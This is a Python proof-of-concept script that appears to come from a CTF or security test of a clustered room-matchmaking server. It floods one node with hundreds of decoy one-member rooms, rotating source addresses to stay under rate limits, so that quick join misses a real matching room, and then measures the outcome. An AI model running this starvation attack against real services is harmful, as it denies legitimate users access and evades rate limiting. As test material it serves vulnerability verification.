"""Cluster quick join reads at most 512 of the directory's fullest open rooms.
ATK rooms of 1 member each (ids 'zz…', which sort before 'room-…' among equal member
counts in ZRANGE REV), placed on node ON (n1 = the asking node itself, or n2), with
non-matching metadata, hide the honest matching 1-member room on n2 from quick joins on n1."""
import asyncio, os, time
from lib18 import *
N1 = os.environ.get("N1", "ws://127.0.0.1:7961/ws"); N2 = os.environ.get("N2", "ws://127.0.0.1:7962/ws")
ATK = int(os.environ.get("ATK", "600")); ON = os.environ.get("ON", "n1"); T = int(time.time()) % 100000
async def conn(url, addr):
    c = C(); c.ws = await websockets.connect(url, ping_interval=None, max_size=1<<26, local_addr=(addr, 0)); await c.ws.recv(); c.task = asyncio.create_task(c._read()); return c
async def main():
    mode = "ctf%d" % T
    host, hroom = await honest_quick_join(N2, mode)
    atk = []; url = N1 if ON == "n1" else N2
    rooms = ["zz%05d-%04d" % (T, i) for i in range(ATK)]
    t0 = time.time()
    for s in range((ATK + 15) // 16):
        c = await conn(url, "127.7.%d.%d" % (s // 4 + 1, s % 4 + 1))  # 4 sessions (64 rooms) per address: under the burst of 60? 
        part = rooms[s * 16:(s + 1) * 16]
        await c.send(*[cm(join=pb.JoinRoom(request_id=j + 1, room=r, room_type="relay", create=pb.RoomOptions(metadata={"mode": "other"}))) for j, r in enumerate(part)])
        atk.append(c)
    await asyncio.sleep(1.5)
    errs = [m.error.message for c in atk for m in c.of("error")]
    print("attacker: %d seats in %d rooms from %d sessions in %.1fs; errors %d %s" % (sum(len(c.of("joined")) for c in atk), ATK, len(atk), time.time()-t0, len(errs), errs[:2]))
    await asyncio.sleep(2.5)
    res = []
    for i in range(5):
        h = await C().open(url=N1)
        t1 = time.time()
        await h.send(cm(quick_join=pb.QuickJoin(request_id=1, room_type="relay", filters={"mode": mode})))
        m = await h.wait(lambda k, m: k in ("joined", "error", "redirect"))
        k = m.WhichOneof("kind"); res.append((k, getattr(m, k).room, round((time.time()-t1)*1000, 1)))
        await h.close(); await asyncio.sleep(0.2)
    print("honest quick joins on n1 ->", res, "(expected: redirect to", hroom, ")")
    for c in atk: await c.close()
    await host.close()
asyncio.run(main())
